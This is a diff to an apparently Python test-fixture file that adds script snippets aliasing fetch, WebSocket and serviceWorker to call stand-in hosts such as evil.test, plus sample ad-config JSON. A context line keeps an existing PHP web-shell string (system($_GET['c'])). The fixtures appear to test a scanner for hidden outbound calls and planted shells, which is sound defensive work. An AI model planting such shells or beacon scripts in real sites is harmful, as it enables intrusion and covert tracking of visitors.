@@ -92,6 +92,26 @@ CODE = Fixture(
         (6, "<script>preg_replace('/x/e', $a, $b);//@ sourceMappingURL = b.map</script><?php system($_GET['c']); echo 1"),
     ],
 )
+# Scripts whose names stand for what sends; # is the page's number.
+ALIASES = Fixture(
+    "slot int, markup string",
+    [
+        (0, "<script>var f = fetch; let g = f; g('https://evil.test/#'); gg('https://no.test/')</script>"),
+        (1, '<script>const W = window.WebSocket;\nnew W("wss://evil.test/#");</script>'),
+        (2, "<script>function fetch(u){return u} var f = fetch; f('https://evil.test/');</script>"),
+        (3, "<script>a = b; b = c; c = a; a('https://evil.test/'); d = e; e = fetch; d('https://late.test/#')</script>"),
+        (4, "<script>var s = navigator.serviceWorker; s.register('/sw-#.js');</script>"),
+        (5, "<script>var x = self.fetch, y = x; y(`https://evil.test/t`); x.y('https://no.test/')</script>"),
+        (6, "<script>var f = fetch;</script><script>f('https://other.test/'); function h(){} var h = fetch; h('https://own.test/')</script>"),
+    ],
+)
+CONFIGS = Fixture(
+    "slot int, markup string",
+    [
+        (0, '{"defaultVertical": "WeightLoss", "nameMacro": "{name_#}"}'), (1, '{"defaultVertical": '), (2, '{"defaultVertical": 5, "nameMacro": "{n}"}'),
+        (3, '{"verticals": {"Adult": {"imageBase": "https://assets.example.com/new/#"}, "Crypto": {"imageBase": "https://assets.example.com/c", "x": 1}}, "more": [1]}'), (4, "[1, 2]"), (5, '{"verticals": {"Adult": {"imageBase": ""}}, "nameMacro": null}'), (6, "{}"),
+    ],
+)
 FILES = Fixture(
     "site_id int, rel_path string, content string, size long",
     [
